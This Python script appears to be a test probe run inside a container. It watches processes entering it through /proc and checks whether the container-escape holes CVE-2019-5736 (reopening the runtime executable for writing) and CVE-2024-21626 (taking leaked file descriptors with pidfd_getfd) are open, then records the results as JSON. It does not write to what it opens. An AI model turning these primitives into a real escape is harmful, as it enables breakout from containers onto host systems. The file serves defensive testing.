"""A program that attacks, from inside a container, whatever enters it. Stands alone: it is copied.

It runs until /tmp/stop appears, and holds what it finds of every other process it can see:

    /proc/PID/exe    kept open with O_PATH; reopened for writing when the process has ended (while
                     one runs, that fails with ETXTBSY for anyone) -- CVE-2019-5736
    /proc/PID/fd/N   looked at by readlink and taken by pidfd_getfd                -- CVE-2024-21626
    /proc/PID/cwd    opened, and `..` walked from it

then writes what it got to /tmp/report as JSON. It writes to nothing that it managed to open.
"""

import ctypes
import errno
import json
import os
import select

LIBC = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def take(pid: str, fd: str) -> bool:
    """Duplicate a fd out of another process, and close it again."""
    pidfd = LIBC.syscall(PIDFD_OPEN, int(pid), 0)
    if pidfd < 0:
        return False
    got: int = LIBC.syscall(PIDFD_GETFD, pidfd, int(fd), 0)
    os.close(pidfd)
    if got >= 0:
        os.close(got)
    return got >= 0


def key_of(status: os.stat_result) -> str:
    """Name a file by device and inode: a path means another thing outside."""
    return f"{os.major(status.st_dev)}:{os.minor(status.st_dev)}:{status.st_ino}"


def look(pid: str, held: dict[str, int], fds: set[str], folders: set[str]) -> None:
    """Hold and note all that can be had of one process; what vanishes is passed over.

    What is noted bears the executable that the process had before and after: a process that has
    meanwhile execve'd the container's program has that program's fds, which are nobody's secret.
    """
    exe = os.open(f"/proc/{pid}/exe", os.O_PATH)
    key = key_of(os.fstat(exe))
    if key in held:
        os.close(exe)
    else:
        held[key] = exe
    found = set()
    folder = key_of(os.stat(f"/proc/{pid}/cwd"))
    for fd in os.listdir(f"/proc/{pid}/fd"):
        target = os.readlink(f"/proc/{pid}/fd/{fd}")
        found.add(f"{key} {fd} {target} {'taken' if take(pid, fd) else 'seen'}")
    if key_of(os.stat(f"/proc/{pid}/exe")) == key:
        fds |= found
        folders.add(f"{key} {folder}")


def reopen(fd: int) -> str:
    """Try for two seconds to open for writing what is held; returns what came of it."""
    result = "ETXTBSY"
    for _ in range(200):
        try:
            os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
        except OSError as error:
            result = errno.errorcode[error.errno or 0]
            if error.errno != errno.ETXTBSY:
                return result
            select.select([], [], [], 0.01)
        else:
            return "WRITABLE"
    return result


def main() -> None:
    """Attack until told to stop, then report."""
    held: dict[str, int] = {}
    fds: set[str] = set()
    folders: set[str] = set()
    denied = rounds = 0
    own = {str(os.getpid()), "self", "thread-self"}
    with open("/tmp/ready", "w"):
        pass
    while not os.path.exists("/tmp/stop"):
        rounds += 1
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or pid in own:
                continue
            try:
                look(pid, held, fds, folders)
            except PermissionError:
                denied += 1
            except OSError:
                continue
    report = {
        "rounds": rounds,
        "denied": denied,
        "executables": {key: reopen(fd) for key, fd in held.items()},
        "fds": sorted(fds),
        "folders": sorted(folders),
    }
    with open("/tmp/report", "w") as file:
        json.dump(report, file)


if __name__ == "__main__":
    main()
